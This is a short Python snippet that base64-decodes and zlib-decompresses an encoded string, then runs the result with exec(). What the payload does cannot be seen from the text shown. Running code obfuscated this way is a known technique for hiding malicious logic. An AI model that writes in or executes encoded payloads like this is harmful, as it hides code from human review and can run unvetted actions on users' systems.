import base64, zlib

exec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC/myi/WK8gvSM3TUM9MUdcEAG+qCEY=")))
